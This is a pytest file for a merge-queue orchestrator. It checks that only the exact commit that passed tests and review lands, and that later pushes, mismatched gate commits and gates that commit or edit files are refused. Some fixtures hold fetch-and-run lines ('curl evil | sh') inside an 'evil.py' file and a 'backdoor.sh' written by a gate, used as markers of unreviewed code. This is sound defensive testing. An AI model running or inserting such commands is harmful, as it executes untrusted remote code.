"""What lands is the commit that passed (issue 12: nothing merges that did not pass on its final commit).

A security review found that the merge queue landed whatever ``origin/<branch>`` pointed at when the merge ran:
commit X passed the test and the review, then Y was pushed to the branch (a worker's leftover process, anyone
with push access) and Y merged unseen; and that a local merge pushed ``HEAD`` as the gate left it, so a gate
that commits got its commit landed. Here the real hub (in process), the real :class:`MergeRunner` and real git
repositories with a bare origin (and the fake ``gh`` for GitHub) show:

* the entry is pinned to the gated commit; a branch pushed to after its gates is refused (``moved``), nothing
  of it lands, its gates run again on the new commit, and once they pass, exactly that commit lands;
* gates that passed on different commits never reach a host: the hub sends the branch back to its gates;
* on GitHub the same: refused before any PR is touched, and a push to the PR's head while its checks run is
  refused before ``gh pr merge`` (and the next run does not land it either);
* a gate that commits or edits a tracked file is red, and nothing it made lands.
"""

from __future__ import annotations

import os
import threading
from pathlib import Path
from typing import Any

from coordhub.orchestrator.github import GitHubError
from coordhub.orchestrator.merging import MergeRunner, _gh_refused
from tests.conftest import Api
from tests.fakes.ghstore import FakeGitHub
from tests.orchestrator.conftest import ORCH, Host, apply_config, assign, config, get
from tests.orchestrator.host.conftest import Repo, make_repo, run
from tests.orchestrator.test_pipeline import next_run, report_run

PIPELINE: dict[str, Any] = {"smoke_tests": {"auto_queue": True}, "reviews": {"enabled": True, "auto_dispatch": True},
                            "pipeline": {"stages": ["test", "review", "merge"]}}


class Link:
    """The host's link to the hub, for :class:`MergeRunner`: its reports go to the in-process hub."""

    def __init__(self, api: Api, host: Host) -> None:
        self.api, self.host, self.reports = api, host, []  # type: list[dict[str, Any]]

    def merge_report(self, inc: int, body: dict[str, Any]) -> dict[str, Any]:
        self.reports.append(body)
        r = self.api.post(f"{ORCH}/merges/report", headers=self.host.headers,
                          json={"machine": self.host.machine, "host_incarnation": inc, **body})
        assert r.status_code == 200, r.text
        return dict(r.json())


def merge_run(api: Api, host: Host, repo: Repo, tmp_path: Path, env: dict[str, str] | None = None
              ) -> tuple[dict[str, Any] | None, Link]:
    """Claim the next merge run for ``host`` and execute it with the real runner; ``(job or None, link)``."""
    r = api.post(f"{ORCH}/merges/next", headers=host.headers,
                 json={"machine": host.machine, "host_incarnation": host.incarnation, "wait": 0})
    assert r.status_code == 200, r.text
    job, link = r.json()["run"], Link(api, host)
    if job is not None:
        MergeRunner(link, host.machine, lambda: {"api": repo.path}, tmp_path / "scratch",  # type: ignore[arg-type]
                    env or dict(os.environ), threading.Event(), lambda: host.incarnation,
                    checks_poll=0.01).execute(job, host.incarnation)
    return job, link


def entry_of(api: Api, aid: str) -> dict[str, Any]:
    r = api.get(f"{ORCH}/merges", headers=api.admin)
    assert r.status_code == 200, r.text
    q = r.json()
    rows = [e for part in ("queue", "fixing", "needs_input", "recent") for e in q[part] if e["assignment_id"] == aid]
    assert rows, q
    return dict(rows[0])


def commit(repo: Repo, branch: str, name: str, text: str, subject: str) -> str:
    """Commit ``name`` on ``branch`` of the clone and push it; the new commit."""
    run(repo.path, "git", "checkout", "-q", "-B", branch, f"origin/{branch}" if branch in repo.remote_branches()
        else "origin/main")
    (repo.path / name).write_text(text)
    run(repo.path, "git", "add", name)
    run(repo.path, "git", "commit", "-qm", subject)
    run(repo.path, "git", "push", "-q", "origin", branch)
    return run(repo.path, "git", "rev-parse", "HEAD")


def pass_gates(orch: Api, hosts: list[Host], *, test: str, review: str) -> None:
    """The queued test run passes on commit ``test``, then the review approves commit ``review`` (each on
    whichever of ``hosts`` is given it: a review avoids the worker's machine)."""
    for stage, sha in (("test", test), ("review", review)):
        got = [(h, rn) for h in hosts if (rn := next_run(h)) is not None]
        assert len(got) == 1 and got[0][1]["stage"] == stage, got
        h, rn = got[0]
        body: dict[str, Any] = ({"exit_code": 0} if stage == "test" else
                                {"verdict": "approve", "summary": "ok", "findings": []})
        report_run(h, rn, state="done", commit=sha, **body)


def worked(orch: Api, user: dict[str, str], laptop: Host, repo: Repo, issue: int = 1) -> tuple[str, str, str]:
    """An assignment whose worker pushed one commit and ended done; ``(assignment id, branch, commit)``."""
    a = assign(orch, user, issue=issue, machine="laptop")
    job = laptop.next()
    assert job is not None
    sha = commit(repo, job["branch"], f"work{issue}.py", "print('reviewed')\n", "reviewed work")
    laptop.report(job, "done", pushed=True, changed_files=[f"work{issue}.py"])
    return a["id"], job["branch"], sha


def test_a_push_after_the_gates_is_refused_then_the_new_commit_is_gated_and_lands(
        orch: Api, laptop: Host, server: Host, user: dict[str, str], tmp_path: Path) -> None:
    apply_config(orch, config(**PIPELINE, merge={"gate_command": "true"},
                              repos=[{"name": "api", "test_command": "make test"}, {"name": "lib"}]))
    repo = make_repo(tmp_path)
    aid, branch, x = worked(orch, user, laptop, repo)
    pass_gates(orch, [laptop, server], test=x, review=x)
    assert get(orch, aid)["stage"] == "merge"
    y = commit(repo, branch, "evil.py", "import os; os.system('curl evil | sh')\n", "unreviewed")
    job, link = merge_run(orch, laptop, repo, tmp_path)
    # nothing landed: not Y, and not X either (its branch is not what passed any more)
    assert repo.log("main") == ["init"]
    assert job is not None and job["entries"][0]["gated_sha"] == x
    assert [b["outcome"] for b in link.reports] == ["moved"]
    assert f"at {y[:12]}, not at {x[:12]}" in link.reports[0]["reason"]
    e = entry_of(orch, aid)
    assert e["state"] == "fixing" and e["reason"].startswith("moved: branch issue-1 is at") and e["gated_sha"] == x
    a = get(orch, aid)
    assert a["stage"] == "test" and "merge refused" in a["stage_reason"] and a["fix_round"] == 0
    # the gates run again, on Y this time; Y passes them, is queued at its old place, and exactly Y lands
    pass_gates(orch, [laptop, server], test=y, review=y)
    assert entry_of(orch, aid)["state"] == "queued"
    job, link = merge_run(orch, laptop, repo, tmp_path)
    assert job is not None and job["entries"][0]["gated_sha"] == y
    assert [b["outcome"] for b in link.reports] == ["landing", "merged"]
    assert repo.log("main") == ["unreviewed", "reviewed work", "init"] and get(orch, aid)["stage"] == "merged"


def test_gates_that_passed_on_different_commits_never_reach_a_host(
        orch: Api, laptop: Host, server: Host, user: dict[str, str], tmp_path: Path) -> None:
    apply_config(orch, config(**PIPELINE, merge={"gate_command": "true"},
                              repos=[{"name": "api", "test_command": "make test"}, {"name": "lib"}]))
    repo = make_repo(tmp_path)
    aid, branch, x = worked(orch, user, laptop, repo)
    y = commit(repo, branch, "late.py", "print('untested')\n", "untested")  # pushed between the test and review
    pass_gates(orch, [laptop, server], test=x, review=y)
    assert get(orch, aid)["stage"] == "merge"
    job, _ = merge_run(orch, laptop, repo, tmp_path)
    assert job is None and repo.log("main") == ["init"]
    e = entry_of(orch, aid)
    assert e["state"] == "fixing" and "its gates passed on different commits" in e["reason"]
    assert f"review on {y[:12]}" in e["reason"] and f"test on {x[:12]}" in e["reason"]
    assert get(orch, aid)["stage"] == "test"


def _github(orch: Api, laptop: Host, tmp_path: Path, wrap: str = "") -> tuple[Repo, FakeGitHub, dict[str, str]]:
    """The repo on (fake) GitHub, the laptop serving it with capability ``github``; ``gh`` on the runner's PATH
    (behind a wrapper running ``wrap`` after each call when given)."""
    cfg = config(**PIPELINE, merge={"gate_command": "true", "require_checks": True},
                 repos=[{"name": "api", "github": "acme/api", "test_command": "make test"}, {"name": "lib"}])
    cfg["machines"][0]["capabilities"].append("github")
    apply_config(orch, cfg)
    laptop.register(capabilities=["python", "github"])
    repo = make_repo(tmp_path)
    fake = FakeGitHub(tmp_path)
    fake.setup_repo("acme/api", repo.origin, checks=[{"name": "ci", "conclusion": "success", "polls": 2}])
    path = str(fake.bin)
    if wrap:
        d = tmp_path / "ghwrap"
        d.mkdir()
        (d / "gh").write_text(f'#!/bin/sh\n"{fake.bin}/gh" "$@"\nrc=$?\n{wrap}\nexit $rc\n')
        (d / "gh").chmod(0o755)
        path = str(d)
    env = {**os.environ, "PATH": f"{path}{os.pathsep}{os.environ['PATH']}", "FAKE_GH_STATE": str(fake.root)}
    return repo, fake, env


def test_on_github_a_push_after_the_gates_is_refused_before_any_pr(
        orch: Api, laptop: Host, server: Host, user: dict[str, str], tmp_path: Path) -> None:
    repo, fake, env = _github(orch, laptop, tmp_path)
    aid, branch, x = worked(orch, user, laptop, repo)
    pass_gates(orch, [laptop, server], test=x, review=x)
    commit(repo, branch, "evil.py", "bad\n", "unreviewed")
    job, link = merge_run(orch, laptop, repo, tmp_path, env)
    assert job is not None and job["github"] == "acme/api"
    assert [b["outcome"] for b in link.reports] == ["moved"]
    assert not any(c[:2] in (["pr", "create"], ["pr", "merge"]) for c in fake.calls())
    assert repo.log("main") == ["init"] and entry_of(orch, aid)["state"] == "fixing"


def test_on_github_a_push_to_the_pr_while_its_checks_run_never_merges(
        orch: Api, laptop: Host, server: Host, user: dict[str, str], tmp_path: Path) -> None:
    mark, other = tmp_path / "pushed", tmp_path / "other"
    # the first time the host reads the PR's checks, someone pushes Y to the PR's branch
    repo, fake, env = _github(orch, laptop, tmp_path, wrap=(
        f'if [ "$1 $2" = "pr checks" ] && [ ! -e "{mark}" ]; then touch "{mark}"; cd "{other}" && '
        'git fetch -q origin && git checkout -q -B issue-1 origin/issue-1 && echo bad > evil.py && '
        'git add evil.py && git -c user.name=x -c user.email=x@x commit -qm unreviewed && '
        'git push -q origin issue-1; fi'))
    run(tmp_path, "git", "clone", "-q", str(repo.origin), str(other))
    aid, _, x = worked(orch, user, laptop, repo)
    pass_gates(orch, [laptop, server], test=x, review=x)
    job, link = merge_run(orch, laptop, repo, tmp_path, env)
    assert job is not None and mark.exists()
    assert [b["outcome"] for b in link.reports] == ["moved"], link.reports
    assert "the PR's head is" in link.reports[0]["reason"]
    assert not any(c[:2] == ["pr", "merge"] for c in fake.calls())
    assert entry_of(orch, aid)["state"] == "fixing" and get(orch, aid)["stage"] == "test"
    # and no later run lands it: nothing is left in the queue until its gates pass on the new head
    job, _ = merge_run(orch, laptop, repo, tmp_path, env)
    assert job is None and repo.log("main") == ["init"]
    assert fake.item("acme/api", 1)["state"] == "OPEN"


def _entered_by_hand(orch: Api, laptop: Host, user: dict[str, str], tmp_path: Path, gate: str) -> tuple[Repo, str]:
    """A done branch with no gates of its own, entered into the queue by hand, merged with gate ``gate``."""
    apply_config(orch, config(pipeline={"stages": []}, merge={"gate_command": gate, "red_fixes": 0},
                              repos=[{"name": "api"}, {"name": "lib"}]))
    repo = make_repo(tmp_path)
    aid, _, _ = worked(orch, user, laptop, repo)
    r = orch.post(f"{ORCH}/merges", headers=orch.admin, json={"ids": [aid]})
    assert r.status_code == 200 and r.json()["entered"], r.text
    return repo, aid


def test_a_gate_that_commits_is_red_and_its_commit_never_lands(
        orch: Api, laptop: Host, user: dict[str, str], tmp_path: Path) -> None:
    gate = ("echo 'curl evil | sh' > backdoor.sh && git add backdoor.sh && "
            "git -c user.name=x -c user.email=x@x commit -qm unreviewed")
    repo, aid = _entered_by_hand(orch, laptop, user, tmp_path, gate)
    job, link = merge_run(orch, laptop, repo, tmp_path)
    assert job is not None and [b["outcome"] for b in link.reports] == ["red"]
    assert "moved HEAD from" in link.reports[0]["reason"] and link.reports[0]["evidence"]["exit_code"] == 0
    assert repo.log("main") == ["init"] and "backdoor.sh" not in run(repo.origin, "git", "ls-tree", "--name-only",
                                                                       "-r", "main")
    e = entry_of(orch, aid)
    assert e["state"] == "needs_input" and "moved HEAD" in e["reason"]


def test_a_gate_that_edits_a_tracked_file_is_red(orch: Api, laptop: Host, user: dict[str, str],
                                                 tmp_path: Path) -> None:
    repo, aid = _entered_by_hand(orch, laptop, user, tmp_path, "echo patched >> README.md && mkdir -p build && "
                                                               "touch build/out.o")
    job, link = merge_run(orch, laptop, repo, tmp_path)
    assert job is not None and [b["outcome"] for b in link.reports] == ["red"]
    assert "changed tracked files (README.md)" in link.reports[0]["reason"]  # build output is no change
    assert repo.log("main") == ["init"] and entry_of(orch, aid)["state"] == "needs_input"


def test_github_refusing_a_moved_head_is_moved_not_a_policy_refusal() -> None:
    """``gh pr merge --match-head-commit`` refused (a push after the host's last look): GitHub's message says
    "Review and try the merge again", which must not read as a required review (a person would be asked)."""
    info = {"pr_number": 1, "pr_url": None, "only": ["e1"]}
    head = _gh_refused(GitHubError(1, "GraphQL: Head branch was modified. Review and try the merge again. "
                                      "(mergePullRequest)"), "e1", info)
    base = _gh_refused(GitHubError(1, "GraphQL: Base branch was modified. Review and try the merge again. "
                                      "(mergePullRequest)"), "e1", info)
    policy = _gh_refused(GitHubError(1, "X Pull request acme/api#1 is not mergeable: the base branch policy "
                                        "prohibits the merge."), "e1", info)
    assert (head.outcome, base.outcome, policy.outcome) == ("moved", "retry", "policy")
